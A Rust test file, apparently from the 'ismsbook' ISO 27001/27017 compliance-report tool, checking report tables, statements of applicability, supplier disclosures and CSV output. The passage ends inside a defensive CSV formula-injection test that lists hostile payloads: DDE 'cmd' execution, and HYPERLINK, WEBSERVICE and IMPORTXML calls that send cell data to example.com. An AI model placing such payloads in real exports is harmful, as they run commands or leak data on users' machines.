//! Reports: what the sample book has to show, the same tables for small books as text, and how tables are printed.
//!
//! Each folder of `tests/report/` is a book with its expected tables in `expected/`, a file for each: `<report>[-<service>].<language>.<format>`. A table that is asked
//! for by such a name is compared; `UPDATE_EXPECT=1` rewrites it. An empty new file with the right name is enough to begin with.
#![allow(clippy::disallowed_methods, reason = "tests read the folders of their cases")]

mod faults;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use ismsbook::book::{Book, Request};
use ismsbook::catalog::{Item, SHARED};
use ismsbook::data;
use ismsbook::files::{Area, Files};
use ismsbook::model::Kind;
use ismsbook::model::disclosures::{self, Published};
use ismsbook::report::{self, Cell, ColumnKind, Query, Row, Table, print};
use ismsbook::span::FileId;
use ismsbook::text::{Lang, Text};
use ismsbook::trace::soa::{self, Choice, Set};

const ROOT: &str = env!("CARGO_MANIFEST_DIR");

/// The sample book of this repository.
static SAMPLE: LazyLock<Book> = LazyLock::new(|| Book::open(Path::new(ROOT), &Request::default()));

/// The sample book with the Annex A of 2013.
static ARCHIVE: LazyLock<Book> = LazyLock::new(|| {
    let (files, _) = Files::read(Path::new(ROOT));
    let texts = [Area::Config, Area::Content].into_iter().flat_map(|area| files.of(area));
    let texts = texts.map(|(_, file)| (file.path.clone(), file.text.replace("annex_a = \"2022\"", "annex_a = \"2013\"")));
    let mut archive = Files::from_texts(texts);
    archive.has_config = true;
    Book::compile(archive, Vec::new(), "archive", &Request::default())
});

fn table(book: &Book, name: &str, services: &[&str]) -> Table {
    let query = Query {
        services: services.iter().map(|id| (*id).to_owned()).collect(),
    };
    book.report(name, &query).unwrap_or_else(|| panic!("there is a report {name}"))
}

fn services(book: &Book) -> Vec<String> {
    book.isms.services.iter().map(|service| service.id.0.clone()).collect()
}

/// The cell of a row in a column.
fn cell<'a>(table: &Table, row: &'a Row, key: &str) -> &'a Cell {
    let at = table
        .columns
        .iter()
        .position(|column| column.key == key)
        .unwrap_or_else(|| panic!("{} has no column {key}", table.name));
    &row.cells[at]
}

fn word<'a>(table: &Table, row: &'a Row, key: &str) -> &'a str {
    match cell(table, row, key) {
        Cell::Word(word, _) => word,
        Cell::Id(id) => id,
        _ => "",
    }
}

fn ids<'a>(table: &Table, row: &'a Row, key: &str) -> &'a [String] {
    match cell(table, row, key) {
        Cell::Ids(ids) => ids,
        _ => &[],
    }
}

fn total(table: &Table, key: &str) -> String {
    let (_, cell) = table
        .totals
        .iter()
        .find(|(own, _)| own == key)
        .unwrap_or_else(|| panic!("{} has a total {key}", table.name));
    print::words(cell, Lang::En)
}

/// Every report of a book, for all and for each service.
fn every_table(book: &Book) -> Vec<Table> {
    let mut tables = Vec::new();
    for name in report::names() {
        tables.push(table(book, name, &[]));
        if report::find(name).is_some_and(|report| report.per_service) {
            tables.extend(services(book).iter().map(|service| table(book, name, &[service])));
        }
    }
    tables
}

#[test]
fn the_guidance_table_is_the_one_of_the_standard() {
    let guidance = table(&SAMPLE, "guidance", &[]);
    let keys: Vec<_> = guidance.columns.iter().map(|column| column.key.to_string()).collect();
    assert_eq!(keys, ["clause", "csc", "shared", "csp", "controls"]);
    let clauses: Vec<_> = guidance.rows.iter().map(|row| word(&guidance, row, "clause")).collect();
    assert_eq!(
        clauses,
        ["5", "6", "7", "8", "9", "10", "11", "12", "13", "14", "15", "16", "17", "18"]
    );
    let totals = print::json(&guidance, Lang::En)["totals"].clone();
    assert_eq!(totals, serde_json::json!({"csc": 33, "shared": 1, "csp": 32, "controls": 114}));
}

/// Every figure that opens rows leads to a report, to a place in it that is there, and counts exactly the rows it opens.
#[test]
fn every_figure_counts_the_rows_it_opens() {
    let mut figures = 0;
    for source in every_table(&SAMPLE) {
        let cells = source
            .rows
            .iter()
            .flat_map(|row| &row.cells)
            .chain(source.totals.iter().map(|(_, cell)| cell));
        for (count, opens) in cells.filter_map(|cell| match cell {
            Cell::Count(count, opens) => Some((*count, opens)),
            _ => None,
        }) {
            let target = table(&SAMPLE, &opens.report, &[]);
            assert_eq!(target.counted(opens).count(), count, "{}: {opens:?}", source.name);
            let places = target
                .rows
                .iter()
                .flat_map(|row| [Some(&row.id), row.band.as_ref().map(|band| &band.id)])
                .flatten();
            assert!(
                opens.row.is_empty() || places.into_iter().any(|id| *id == opens.row),
                "{}: {opens:?}",
                source.name
            );
            figures += 1;
        }
    }
    let guidance = table(&SAMPLE, "guidance", &[]);
    let linked = |cell: &Cell| matches!(cell, Cell::Count(..)) || *cell == Cell::Number(0.0);
    assert!(
        guidance.rows.iter().all(|row| row.cells[1..].iter().all(linked)),
        "every figure of the guidance table opens its rows"
    );
    assert!(figures > 40);
}

#[test]
fn there_is_a_row_for_every_position_and_side() {
    let positions = table(&SAMPLE, "positions", &[]);
    let count = |party: &str| positions.rows.iter().filter(|row| word(&positions, row, "party") == party).count();
    assert_eq!((count("csc"), count(SHARED), count("csp"), positions.rows.len()), (33, 1, 32, 66));
    for row in &positions.rows {
        let (chosen, others) = (ids(&positions, row, "control"), ids(&positions, row, "counterparts"));
        assert!(!chosen.is_empty() && !others.is_empty(), "{} shows both numbers", row.id);
        assert!(
            chosen
                .iter()
                .chain(others)
                .all(|id| matches!(SAMPLE.catalog.get(id), Some(Item::Control(..))))
        );
    }
    let row = positions
        .rows
        .iter()
        .find(|row| row.id == "27017:12.3.1/csp")
        .expect("there is a provider side of 12.3.1");
    assert_eq!(
        (ids(&positions, row, "control"), ids(&positions, row, "counterparts")),
        (&["A.8.13".to_owned()][..], &["A.12.3.1".to_owned()][..])
    );
    let archive = table(&ARCHIVE, "positions", &[]);
    let row = archive
        .rows
        .iter()
        .find(|row| row.id == "27017:12.3.1/csp")
        .expect("there is a provider side of 12.3.1");
    assert_eq!(
        (ids(&archive, row, "control"), ids(&archive, row, "counterparts")),
        (&["A.12.3.1".to_owned()][..], &["A.8.13".to_owned()][..])
    );
}

#[test]
fn there_are_seven_cloud_controls() {
    let cld = table(&SAMPLE, "cld", &[]);
    assert_eq!(cld.rows.len(), 7);
    for service in services(&SAMPLE) {
        assert!(
            cld.rows.iter().all(|row| !word(&cld, row, &service).is_empty()),
            "{service} says something about each"
        );
    }
}

/// The sides of the guidance that speak to the parties of a service, read off the catalog.
fn called_for(book: &Book, service: &str) -> Vec<(String, String)> {
    let service = book.isms.services.get(service).expect("the service is there");
    let parties: Vec<_> = service.parties.iter().map(|party| party.id.clone()).collect();
    let set = book.catalog.guidance().expect("a guidance is chosen");
    let sides = set
        .positions
        .iter()
        .flat_map(|position| position.sides.iter().map(move |side| (position, side)));
    let mut called: Vec<_> = sides
        .filter(|(_, side)| side.parties.iter().any(|party| parties.contains(party)))
        .map(|(position, side)| (position.id.clone(), side.id.clone()))
        .collect();
    called.sort();
    called
}

#[test]
fn statements_of_services_have_exactly_their_rows() {
    for (book, annex_rows) in [(&*SAMPLE, 93), (&*ARCHIVE, 114)] {
        for service in services(book) {
            let soa = table(book, "soa", &[&service]);
            let of = |set: &str| soa.rows.iter().filter(|row| word(&soa, row, "set") == set).collect::<Vec<_>>();
            assert_eq!(of("annex_a").len(), annex_rows, "{service}");
            assert_eq!(of("cld").len(), 7, "{service}");
            let mut sides: Vec<_> = of("guidance")
                .iter()
                .map(|row| (word(&soa, row, "control").to_owned(), word(&soa, row, "party").to_owned()))
                .collect();
            sides.sort();
            assert_eq!(sides, called_for(book, &service), "{service}");
            // Sides stand right after the control they land on.
            let mut control = "";
            for row in &soa.rows {
                match word(&soa, row, "set") {
                    "annex_a" => control = word(&soa, row, "control"),
                    "guidance" => {
                        let Some(Item::Position(_, position)) = book.catalog.get(word(&soa, row, "control")) else {
                            panic!("{} is a position", row.id)
                        };
                        assert_eq!(
                            book.catalog.in_chosen_annex(&position.control).first(),
                            Some(&control),
                            "{}",
                            row.id
                        );
                    }
                    _ => {}
                }
            }
            let out_of_role = soa
                .meta
                .iter()
                .find(|(key, _, _)| *key == "out_of_role")
                .map(|(_, _, cell)| print::words(cell, Lang::En));
            assert!(
                out_of_role.is_some_and(|count| count != "0") || called_for(book, &service).len() == 66,
                "{service}"
            );
        }
    }
    let sides = |service: &str| called_for(&SAMPLE, service).len();
    assert_eq!(
        (sides("minato-compute"), sides("minato-groupware"), sides("minato-docs")),
        (32 + 1, 33 + 1, 33 + 1 + 32)
    );
}

#[test]
fn the_whole_statement_has_a_row_for_every_control() {
    for (book, rows) in [(&*SAMPLE, 93), (&*ARCHIVE, 114)] {
        let soa = table(book, "soa", &[]);
        assert_eq!(soa.rows.iter().filter(|row| word(&soa, row, "set") == "annex_a").count(), rows);
        assert!(soa.rows.iter().all(|row| matches!(word(&soa, row, "set"), "annex_a" | "own")));
    }
}

/// The sample with other texts in some files.
fn changed(edits: &[(&str, &str, &str)]) -> Book {
    let (files, _) = Files::read(Path::new(ROOT));
    let texts = [Area::Config, Area::Content].into_iter().flat_map(|area| files.of(area));
    let mut texts: BTreeMap<_, _> = texts.map(|(_, file)| (file.path.clone(), file.text.clone())).collect();
    for (path, find, replace) in edits {
        let text = texts.get_mut(*path).unwrap_or_else(|| panic!("there is {path}"));
        assert!(text.contains(find), "{path} has `{find}`");
        *text = text.replacen(find, replace, 1);
    }
    let mut files = Files::from_texts(texts);
    files.has_config = true;
    Book::compile(files, Vec::new(), "sample", &Request::default())
}

const KUMO: &str = "content/suppliers/kumo-iaas.disclosures.json";

/// Every item that the catalog lists for a provider is told by both services, or has its reason.
#[test]
fn every_item_of_a_provider_is_told_or_reasoned() {
    for service in ["minato-compute", "minato-docs"] {
        let told = table(&SAMPLE, "disclosures", &[service]);
        let sides = SAMPLE.catalog.guidance().expect("a guidance is chosen");
        let positions = sides.positions.iter().flat_map(|position| &position.sides);
        let sides = positions.chain(sides.controls.iter().flat_map(|control| &control.sides));
        let items: usize = sides.map(|side| side.told().len()).sum();
        assert_eq!((told.rows.len(), items), (66, 66), "{service}");
        for row in &told.rows {
            assert!(
                matches!(word(&told, row, "state"), "told" | "not-applicable"),
                "{service}: {}",
                row.id
            );
            let source = print::words(cell(&told, row, "source"), Lang::En);
            let (path, line) = source.rsplit_once(':').expect("a source is a file and a line");
            let (_, file) = SAMPLE.files.find(path).expect("the source is there");
            let line = file.text.lines().nth(line.parse::<usize>().expect("a line is a number") - 1);
            assert!(
                line.is_some_and(|line| line.trim_start().starts_with(word(&told, row, "item"))),
                "{service}: {} stands in its line",
                row.id
            );
        }
    }
    assert!(
        table(&SAMPLE, "disclosures", &["minato-groupware"]).rows.is_empty(),
        "a customer tells nobody"
    );
}

/// A provider's retention below the need is said by the report and, where no risk deals with it, by the rule.
#[test]
fn a_supplier_that_does_less_opens_a_gap() {
    let standing = |book: &Book, item: &str| {
        let gaps = table(book, "supplier-gaps", &["minato-docs"]);
        let row = gaps
            .rows
            .iter()
            .find(|row| row.id == format!("soa:minato-docs/27017:12.3.1/csc/csc/kumo-iaas/{item}"));
        let row = row.unwrap_or_else(|| panic!("there is a row of {item}"));
        (word(&gaps, row, "standing").to_owned(), ids(&gaps, row, "risks").to_vec())
    };
    let risks = vec!["R-027".to_owned()];
    assert_eq!(standing(&SAMPLE, "retention"), ("met".to_owned(), risks.clone()));
    assert_eq!(standing(&SAMPLE, "method"), ("not-met".to_owned(), risks.clone()));
    let shorter = (KUMO, "\"30 days\"", "\"29 days\"");
    let book = changed(&[shorter]);
    assert_eq!(standing(&book, "retention"), ("not-met".to_owned(), risks));
    assert!(book.diagnostics.is_empty(), "a risk deals with it");
    let book = changed(&[shorter, ("content/registers/risks-docs.yaml", "        - 27017:12.3.1/csc\n", "")]);
    let said: Vec<_> = book.diagnostics.iter().map(|diagnostic| diagnostic.code).collect();
    assert_eq!(said, ["supplier-gap-without-risk"; 2], "of the retention and of the method");
    let gaps = table(&book, "supplier-gaps", &["minato-docs"]);
    assert_eq!(total(&gaps, "without-risk"), "2");
}

/// What one book publishes, another reads without a complaint and as it was meant; the schema that is printed describes it.
#[test]
fn what_is_published_can_be_read() {
    let visible = SAMPLE.visible();
    let schema = schemars::schema_for!(Published).to_value();
    let validator = jsonschema::options()
        .should_validate_formats(true)
        .build(&schema)
        .expect("the schema is a schema");
    for service in ["minato-compute", "minato-docs"] {
        let url = |side: &str| Some(format!("guidance/{}.html", side.replace([':', '/'], "-")));
        let text = report::disclosures::json(&visible, service, &url).expect("the service is a provider");
        let value: serde_json::Value = serde_json::from_str(&text).expect("it is JSON");
        assert!(validator.is_valid(&value), "{service}");
        let (node, said) = data::json::parse(FileId::new(0), &text);
        assert!(said.is_empty(), "{said:?}");
        let (published, said) = disclosures::read(&node.expect("it is JSON"), &SAMPLE.catalog);
        assert!(said.is_empty(), "{said:?}");
        let published = published.expect("it can be read");
        assert_eq!((published.json(), published.entries.len()), (text, 66));
        let retention = published.entry("27017:12.3.1", "retention").expect("the retention is told");
        assert_eq!(retention.annex_a, ["A.8.13"]);
        let words = retention.text.as_ref().expect("it is told in words");
        assert!(
            words.ja.is_some() && words.en.is_some() && words.plain.is_none(),
            "words are told in the languages they are in"
        );
        assert_eq!(value["date"], "2026-11-20");
    }
    // Words without a language are in that of the book, and in no other.
    let book = changed(&[(
        "content/soa/minato-compute.yaml",
        "text:\n                ja: 既定は7世代(7日)、顧客の設定により最長30世代(30日)\n                en: 7 generations (7 days) by default, and up to 30 generations (30 days) if the customer so sets\n",
        "text: 既定は7世代(7日)、顧客の設定により最長30世代(30日)\n",
    )]);
    let text = report::disclosures::json(&book.visible(), "minato-compute", &|_| None).expect("the service is a provider");
    let (node, _) = data::json::parse(FileId::new(0), &text);
    let (published, _) = disclosures::read(&node.expect("it is JSON"), &book.catalog);
    let published = published.expect("it can be read");
    let retention = published.entry("27017:12.3.1", "retention").expect("the retention is told");
    let words = retention.text.as_ref().expect("it is told in words");
    assert!(
        words.ja.is_some() && words.en.is_none() && words.plain.is_none(),
        "words keep the language they are in"
    );
    assert_eq!(report::disclosures::json(&visible, "minato-groupware", &|_| None), None);
    assert_eq!(report::disclosures::json(&visible, "nothing", &|_| None), None);
}

/// Ids under which a treatment may name the control of a row: itself, its side, its position, its numbers in the other edition.
fn names_of(row: &soa::Row) -> BTreeSet<String> {
    let mut names = BTreeSet::from([row.control.clone()]);
    names.extend(row.parties.iter().map(|side| format!("{}/{side}", row.control)));
    names.extend(row.counterparts.iter().cloned());
    names
}

#[test]
fn every_row_is_decided_and_every_inclusion_is_justified() {
    for book in [&*SAMPLE, &*ARCHIVE] {
        for statement in book.graph.soa.iter() {
            for row in &statement.rows {
                assert_ne!(row.choice, Choice::Undecided, "{}", row.id);
                if row.choice != Choice::Included {
                    continue;
                }
                assert!(row.status.is_some(), "{} has a status", row.id);
                assert!(
                    !row.justifications.is_empty() || !row.practice.is_empty(),
                    "{} has a reason",
                    row.id
                );
                for id in row
                    .justifications
                    .iter()
                    .filter(|id| book.graph.get(id).is_some_and(|node| node.kind == Kind::Risk))
                {
                    let risk = book
                        .isms
                        .risks
                        .get(id)
                        .unwrap_or_else(|| panic!("{}: the risk {id} exists", row.id));
                    let names = names_of(row);
                    assert!(
                        risk.treatment.controls.iter().any(|control| names.contains(&control.id)),
                        "{}: the treatment of {id} names it",
                        row.id
                    );
                    let concerns = risk.services.is_empty() || risk.services.iter().any(|service| service.id == statement.scope);
                    assert!(concerns || statement.scope == "isms", "{}: {id} concerns the service", row.id);
                }
                assert!(row.justifications.iter().all(|id| book.graph.get(id).is_some()), "{}", row.id);
            }
        }
    }
}

/// With the Annex A of 2013, what the book decided about controls without a counterpart is listed, and nothing else is.
#[test]
fn what_has_no_counterpart_is_listed() {
    for statement in ARCHIVE.graph.soa.iter() {
        let stated = ARCHIVE.isms.soa.get(&format!("soa:{}", statement.scope));
        let decided = stated
            .into_iter()
            .flat_map(|soa| &soa.decisions)
            .map(|decision| decision.control.id.clone());
        let homeless = decided.filter(|id| {
            matches!(ARCHIVE.catalog.get(id), Some(Item::Control(set, _)) if set.standard.id == "2022")
                && ARCHIVE.catalog.in_chosen_annex(id).is_empty()
        });
        let listed: BTreeSet<_> = statement.without_row.iter().map(|(id, _)| id.clone()).collect();
        assert_eq!(listed, homeless.collect(), "{}", statement.scope);
    }
    assert!(!ARCHIVE.graph.soa[0].without_row.is_empty(), "eleven controls are new in 2022");
    assert!(SAMPLE.graph.soa.iter().all(|statement| statement.without_row.is_empty()));
    let soa = table(&ARCHIVE, "soa", &[]);
    assert!(print::terminal(&soa, Lang::En).contains("without a counterpart in the chosen edition"));
}

#[test]
fn a_statement_names_what_it_is() {
    let soa = table(&SAMPLE, "soa", &["minato-docs"]);
    let meta = print::json(&soa, Lang::Ja)["meta"].clone();
    assert_eq!(meta["service"], "みなとドックス");
    assert_eq!(meta["parties"], serde_json::json!(["csp", "csc"]));
    assert_eq!(
        (&meta["annex_a"], &meta["guidance"]),
        (&serde_json::json!("2022"), &serde_json::json!("27017:2015"))
    );
    assert_eq!(meta["out_of_role"], 0);
    assert!(
        ["number", "version", "approved_by", "approved_on", "effective"]
            .iter()
            .all(|key| !meta[key].is_null()),
        "{meta}"
    );
    assert_eq!(
        print::json(&table(&SAMPLE, "soa", &[]), Lang::Ja)["meta"]["service"],
        "みなとクラウド株式会社"
    );
}

#[test]
fn every_cell_of_the_matrix_counts_its_risks() {
    let matrix = table(&SAMPLE, "risk-matrix", &[]);
    let risks = SAMPLE.isms.risks.len();
    let side = SAMPLE.config.risk.likelihood.len() * SAMPLE.config.risk.impact.len();
    assert_eq!((matrix.rows.len(), matrix.figures.len()), (3 * side, 3));
    assert_eq!(total(&matrix, "inherent"), risks.to_string());
    let mut seen: BTreeMap<&str, Vec<&String>> = BTreeMap::new();
    for row in &matrix.rows {
        let listed = ids(&matrix, row, "risks");
        assert_eq!(*cell(&matrix, row, "count"), Cell::count(listed.len()));
        seen.entry(word(&matrix, row, "stage")).or_default().extend(listed);
    }
    for (stage, ids) in seen {
        assert_eq!(
            ids.len(),
            ids.iter().collect::<BTreeSet<_>>().len(),
            "{stage}: a risk stands in one cell"
        );
    }
}

/// Schema, keys, types, legends and basis of every report and register, in both languages.
#[test]
fn every_table_has_its_shape() {
    for table in every_table(&SAMPLE) {
        let name = &table.name;
        assert!(!table.basis.is_empty(), "{name} names what it rests on");
        assert!(
            table.basis.iter().all(|id| SAMPLE.graph.get(id).is_some()),
            "{name}: {:?}",
            table.basis
        );
        let mut keys = BTreeSet::new();
        for column in &table.columns {
            assert!(keys.insert(column.key.clone()), "{name}: two columns {}", column.key);
            assert!(
                Lang::ALL
                    .iter()
                    .all(|lang| !column.legend.get(*lang).is_empty() && !column.label.get(*lang).is_empty()),
                "{name}: {}",
                column.key
            );
        }
        let mut rows = BTreeSet::new();
        for row in &table.rows {
            assert!(rows.insert(row.id.clone()), "{name}: two rows {}", row.id);
            assert_eq!(row.cells.len(), table.columns.len(), "{name}: {}", row.id);
        }
        let (ja, en) = (print::json(&table, Lang::Ja), print::json(&table, Lang::En));
        let fields: Vec<_> = ja.as_object().expect("an object").keys().cloned().collect();
        assert_eq!(fields, ["schema", "report", "title", "meta", "columns", "rows", "totals"]);
        assert_eq!(ja["schema"], "ismsbook/report/1");
        for (column, (at_ja, at_en)) in table.columns.iter().flat_map(|column| {
            let rows = |json: &serde_json::Value| json["rows"].as_array().cloned().unwrap_or_default();
            rows(&ja).into_iter().zip(rows(&en)).map(move |rows| (column, rows))
        }) {
            let (one, other) = (&at_ja[&*column.key], &at_en[&*column.key]);
            match column.kind {
                ColumnKind::Ids => assert!(
                    one.as_array().is_some_and(|ids| ids.iter().all(serde_json::Value::is_string)),
                    "{name}.{}: {one}",
                    column.key
                ),
                ColumnKind::Id => assert!(one.is_string() || one.is_null(), "{name}.{}: {one}", column.key),
                ColumnKind::Number => assert!(one.is_number() || one.is_null(), "{name}.{}: {one}", column.key),
                ColumnKind::Date => assert!(one.as_str().is_none_or(|day| day.len() == 10), "{name}.{}: {one}", column.key),
                _ => {}
            }
            if !matches!(column.kind, ColumnKind::Text | ColumnKind::Prose | ColumnKind::Level) {
                assert_eq!(one, other, "{name}.{}: only labels follow the language", column.key);
            }
        }
    }
}

/// A book without records: no report fails, and each says in a sentence that there is nothing.
#[test]
fn an_empty_book_has_every_report() {
    let files = Files::from_texts([(
        "book.toml".to_owned(),
        "[book]\nid = \"none\"\ntitle = \"None\"\norganization = \"Nobody\"\n".to_owned(),
    )]);
    let book = Book::compile(files, Vec::new(), "none", &Request::default());
    for name in report::names() {
        let table = table(&book, name, &[]);
        let (terminal, markdown) = (print::terminal(&table, Lang::En), print::markdown(&table, Lang::En));
        if table.rows.is_empty() {
            assert!(terminal.contains(&*table.empty.en) && markdown.contains(&*table.empty.en), "{name}");
            assert!(table.empty.en.ends_with('.') && table.empty.ja.ends_with('。'), "{name}");
        }
    }
}

#[test]
fn every_requirement_of_both_standards_is_listed_once() {
    let conformance = table(&SAMPLE, "conformance", &[]);
    let listed: Vec<_> = conformance.rows.iter().map(|row| row.id.as_str()).collect();
    let sets = [SAMPLE.catalog.requirements(), SAMPLE.catalog.scheme()];
    let wanted: Vec<_> = sets
        .into_iter()
        .flatten()
        .flat_map(|set| &set.requirements)
        .map(|requirement| requirement.id.as_str())
        .collect();
    assert_eq!(listed, wanted);
    assert!(wanted.len() > 170 && wanted.contains(&"JIP:4.1-N") && wanted.contains(&"27001:4.1.climate"));
    let named = conformance
        .rows
        .iter()
        .filter(|row| matches!(cell(&conformance, row, "rules"), Cell::Rules(rules) if !rules.is_empty()));
    assert!(named.count() > 0, "rules are listed where they rest");
}

/// What the checker says of a requirement, and what is accepted of it: neither lets the requirement count as answered.
#[test]
fn an_exception_answers_no_requirement() {
    let book = |settings: &str| {
        let texts = [
            (
                "book.toml",
                format!(
                    "[book]\nid = \"b\"\ntitle = \"B\"\norganization = \"O\"\n[check]\nall = \"allow\"\nreferences = \"deny\"\n{settings}"
                ),
            ),
            (
                "content/a.md",
                "---\nid: DOC\nstatus: in-force\nanswers: [27001:7.5]\n---\n# A\n\n[b](b.md)\n".to_owned(),
            ),
            ("content/r.yaml", "roles: [{id: role-a, title: A, holders: []}]\n".to_owned()),
        ];
        let files = Files::from_texts(texts.map(|(path, text)| (path.to_owned(), text)));
        Book::compile(files, Vec::new(), "b", &Request::default())
    };
    let stands = |book: &Book| {
        let conformance = table(book, "conformance", &[]);
        let row = conformance
            .rows
            .iter()
            .find(|row| row.id == "27001:7.5.3")
            .expect("the requirement is listed");
        let count = |key: &str| print::words(cell(&conformance, row, key), Lang::En);
        (word(&conformance, row, "state").to_owned(), count("diagnostics"), count("accepted"))
    };
    let told = |state: &str, open: &str, accepted: &str| (state.to_owned(), open.to_owned(), accepted.to_owned());
    assert_eq!(stands(&book("")), told("open", "1", "0"));
    assert_eq!(stands(&book("dead-link = \"allow\"\n")), told("answered", "0", "0"));
    let accept = "[[check.accept]]\nrule = \"dead-link\"\nrecord = \"DOC\"\nreason = \"later\"\nuntil = 2999-01-01\napproved = {by = \"role-a\", on = 1970-01-01}\n";
    assert_eq!(stands(&book(accept)), told("open", "0", "1"));
}

/// The lists of the catalog: fifteen for a customer, seven for a provider, whatever the service.
#[test]
fn every_listed_risk_source_is_there_for_every_service() {
    let sources = table(&SAMPLE, "risk-sources", &[]);
    for service in SAMPLE.isms.services.iter() {
        let of = |list: &str| {
            let of_service = |row: &&Row| ids(&sources, row, "service").contains(&service.id.0);
            let rows = sources.rows.iter().filter(of_service);
            rows.filter(|row| word(&sources, row, "list") == list && row.id.contains("/RS-C"))
                .count()
        };
        for (party, count) in [("csc", 15), ("csp", 7)] {
            let plays = service.parties.iter().any(|own| own.id == party);
            assert!(of(party) == count || !plays, "{} {party}: {}", service.id.0, of(party));
        }
        let own = table(&SAMPLE, "risk-sources", &[&service.id.0]);
        let state = |row: &Row| word(&own, row, "state").to_owned();
        for row in &own.rows {
            let reasoned = !matches!(cell(&own, row, "reason"), Cell::Empty) && !matches!(cell(&own, row, "on"), Cell::Empty);
            match state(row).as_str() {
                "used" => assert!(!ids(&own, row, "risks").is_empty(), "{}", row.id),
                "dismissed" => assert!(reasoned, "{}", row.id),
                state => panic!("{}: {state}", row.id),
            }
        }
    }
}

#[test]
fn the_sample_has_no_holes_and_nothing_open() {
    for name in ["coverage", "diagnostics"] {
        let table = table(&SAMPLE, name, &[]);
        assert!(table.rows.is_empty(), "{}", print::terminal(&table, Lang::En));
    }
    let conformance = table(&SAMPLE, "conformance", &[]);
    assert_eq!(total(&conformance, "answered"), conformance.rows.len().to_string());
}

/// The folders of `tests/report/`.
fn cases() -> Vec<PathBuf> {
    let folder = Path::new(ROOT).join("tests/report");
    let mut cases: Vec<_> = std::fs::read_dir(&folder)
        .expect("there are cases")
        .map(|entry| entry.expect("a case").path())
        .collect();
    cases.sort();
    cases
}

#[test]
fn small_books_give_the_expected_tables() {
    let update = std::env::var_os("UPDATE_EXPECT").is_some();
    let mut wrong = Vec::new();
    for case in cases() {
        let book = Book::open(&case, &Request::default());
        assert!(
            book.isms.broken.is_empty() && book.graph.dangling.is_empty(),
            "{}: {:?}",
            case.display(),
            book.diagnostics
        );
        let expected = case.join("expected");
        let mut files: Vec<_> = std::fs::read_dir(&expected)
            .expect("a case has expected tables")
            .map(|entry| entry.expect("a table").path())
            .collect();
        files.sort();
        for file in files {
            let name = file.file_name().and_then(|name| name.to_str()).expect("names are UTF-8");
            let [stem, lang, format] = name.split('.').collect::<Vec<_>>()[..] else {
                panic!("{name} is `<report>[-<service>].<language>.<format>`")
            };
            let lang = Lang::from_tag(lang).unwrap_or_else(|| panic!("{name}: a language"));
            let (report, asked) = split(&book, stem).unwrap_or_else(|| panic!("{name}: there is such a report"));
            let asked: Vec<_> = asked.iter().map(String::as_str).collect();
            let table = table(&book, &report, &asked);
            let printed = match format {
                "txt" => print::terminal(&table, lang),
                "md" => print::markdown(&table, lang),
                "csv" => print::csv(&table, lang),
                "json" => format!("{:#}\n", print::json(&table, lang)),
                _ => panic!("{name}: a format"),
            };
            if update {
                std::fs::write(&file, &printed).expect("the table can be written");
            } else if std::fs::read_to_string(&file).expect("the table can be read") != printed {
                wrong.push(format!("{}\n{printed}", file.display()));
            }
        }
    }
    faults::none(&wrong);
}

/// The report and the services of the name of a file.
fn split(book: &Book, stem: &str) -> Option<(String, Vec<String>)> {
    if report::names().contains(&stem) {
        return Some((stem.to_owned(), Vec::new()));
    }
    let (rest, service) = stem.rsplit_once('-')?;
    book.isms.services.get(service)?;
    let (report, mut asked) = split(book, rest)?;
    asked.push(service.to_owned());
    Some((report, asked))
}

/// A standard with a third party, other clauses and other counts is data: it gives its tables without a change of code.
#[test]
fn a_made_up_standard_loads_as_data() {
    let book = Book::open(&Path::new(ROOT).join("tests/report/third-party"), &Request::default());
    assert!(book.diagnostics.is_empty(), "{:?}", book.diagnostics);
    let guidance = print::json(&table(&book, "guidance", &[]), Lang::En);
    assert_eq!(
        guidance["totals"],
        serde_json::json!({"csc": 1, "shared": 1, "csp": 3, "csn": 2, "controls": 4})
    );
    assert_eq!(guidance["rows"].as_array().map(Vec::len), Some(2));
    assert_eq!(table(&book, "positions", &[]).rows.len(), 7);
    let rows = |service: &str, set: Set| {
        soa::find(&book.graph, service).map(|statement| statement.rows.iter().filter(|row| row.set == set).count())
    };
    assert_eq!(
        (rows("desk", Set::AnnexA), rows("desk", Set::Guidance), rows("desk", Set::Cloud)),
        (Some(4), Some(3), Some(1))
    );
    assert_eq!(rows("shop", Set::Guidance), Some(7));
}

/// A table with one column of text and the given cells.
fn of_texts(texts: &[&str]) -> Table {
    let mut table = Table::new("made-up", Text::same("made-up")).column("text", ColumnKind::Text, Text::same("text"), Text::same("text"));
    table.rows = texts
        .iter()
        .map(|text| Row {
            cells: vec![Cell::Text(Text::same(*text))],
            ..Row::default()
        })
        .collect();
    table
}

/// The cells of a CSV with one column, as a spreadsheet reads them.
fn read_csv(csv: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            '\r' if !quoted => {}
            '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            c => cell.push(c),
        }
    }
    cells
}

/// CWE-1236: no cell of a CSV begins with what a spreadsheet takes for a formula, and every text comes back whole.
#[test]
fn no_text_becomes_a_formula() {
    const TRIGGERS: [&str; 10] = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"];
    const PAYLOADS: [&str; 10] = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
        "WEBSERVICE(\"http://example.com\")",
        "IMPORTXML(A1,\"//a\")",
        "SUM(1+9)*cmd|' /C calc'!A0",
        "2+5+cmd|' /C calc'!A0",
        "\"quoted\",next",
        "改行\n=1+1",
        "",
    ];
    let mut texts = vec!["-5".to_owned(), "harmless, \"quoted\"\nand broken".to_owned(), "'=1".to_owned()];
    for trigger in TRIGGERS {
        for payload in PAYLOADS {
            texts.extend([
                format!("{trigger}{payload}"),
                format!(" {trigger}{payload}"),
                format!("\u{3000}{trigger}{payload}"),
                format!("\n{trigger}{payload}"),
            ]);
        }
    }
    assert!(texts.len() > 300);
    let table = of_texts(&texts.iter().map(String::as_str).collect::<Vec<_>>());
    let cells = read_csv(&print::csv(&table, Lang::En));
    assert_eq!(cells.len(), texts.len() + 1);
    for (cell, text) in cells[1..].iter().zip(&texts) {
        let first = cell.trim_start_matches([' ', '\u{3000}']).chars().next().map(String::from);
        assert!(
            first.is_none_or(|first| first != "\n" && !TRIGGERS.contains(&first.as_str())),
            "{cell:?}"
        );
